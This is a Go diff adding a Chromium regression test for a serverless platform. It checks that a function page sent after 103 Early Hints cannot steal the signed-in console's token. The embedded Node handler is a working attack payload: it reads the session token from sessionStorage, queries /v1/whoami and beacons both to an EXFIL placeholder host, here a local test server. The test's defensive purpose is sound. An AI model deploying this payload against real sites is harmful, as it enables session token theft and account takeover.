@@ -1,12 +1,16 @@
 package main
 
 import (
+	"net/http"
+	"net/http/httptest"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/chromedp/chromedp"
 
+	"sless.dev/sless/gateway/api"
 	"sless.dev/sless/test/browser"
 )
 
@@ -52,4 +56,56 @@ func TestServiceWorkerTakeoverOnDevInChromium(t *testing.T) {
 	}
 	p.Screenshot("takeover-refused")
 	signedIn("the console after the function's page")
+}
+
+// earlyHintsHandler is a Node function that sends 103 Early Hints before every answer
+// (through the wrapper's own response) and serves a page that reads the console's token,
+// calls /v1/whoami with it and sends both to EXFIL.
+const earlyHintsHandler = `const http = require('http');
+const writeHead = http.ServerResponse.prototype.writeHead;
+http.ServerResponse.prototype.writeHead = function (...args) {
+  if (!this.hinted) { this.hinted = true; this.writeEarlyHints({ link: '</style.css>; rel=preload; as=style' }); }
+  return writeHead.apply(this, args);
+};
+const PAGE = ` + "`" + `<!doctype html><title>loading</title><script>
+try {
+  const token = sessionStorage.getItem("sless.token");
+  fetch("/v1/whoami", {headers: {Authorization: "Bearer " + token}}).then(r => r.text()).then(who => {
+    new Image().src = "EXFIL/?token=" + encodeURIComponent(token) + "&who=" + encodeURIComponent(who);
+    document.title = "token:" + token + " whoami:" + who;
+  }, (e) => { document.title = "token:" + token + " whoami:" + e.name; });
+} catch (e) { document.title = "storage:" + e.name; }
+</script>` + "`" + `;
+exports.handle = async () => ({ statusCode: 200, headers: { 'Content-Type': 'text/html' }, body: PAGE.replace('EXFIL', process.env.EXFIL) });
+`
+
+// TestEarlyHintsTokenTheftOnDevInChromium is attack 1 of issue 24 where it was found: a
+// Node function that sends 103 Early Hints before its page, opened in the tab where the
+// console is signed in, reads no token and sends nothing away: its final answer still
+// carries the sandbox.
+func TestEarlyHintsTokenTheftOnDevInChromium(t *testing.T) {
+	var stolen atomic.Int32
+	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Query().Get("token") != "" {
+			stolen.Add(1)
+		}
+	}))
+	t.Cleanup(exfil.Close)
+	d := startDevSession(t)
+	d.upload(t, "hints", "nodejs20", map[string]string{"handler.js": earlyHintsHandler},
+		api.FunctionFields{EnvVars: &map[string]string{"EXFIL": exfil.URL}}, "Ready", func(s api.FunctionStatus) bool { return s.Ready })
+
+	p := browser.Open(t, 3*time.Minute)
+	p.Do("sign in from the banner's URL", chromedp.Navigate(d.endpoint+"/console/#token="+d.token),
+		chromedp.WaitVisible(chromedp.CSS(`tr[data-function="hints"]`)))
+	p.Do("open the function in the same tab", chromedp.Navigate(d.endpoint+"/fn/"+d.ns+"/hints/"))
+	p.Wait("the function's page to report", `document.title !== "loading"`)
+	got := p.Eval("document.title")
+	if strings.Contains(got, d.token) || !strings.Contains(got, "storage:SecurityError") {
+		t.Fatalf("the function's page after 103 Early Hints on the gateway's origin: %q; want no token", got)
+	}
+	if n := stolen.Load(); n != 0 {
+		t.Fatalf("the page sent the token away %d times", n)
+	}
+	p.Screenshot("early-hints-sandboxed")
 }
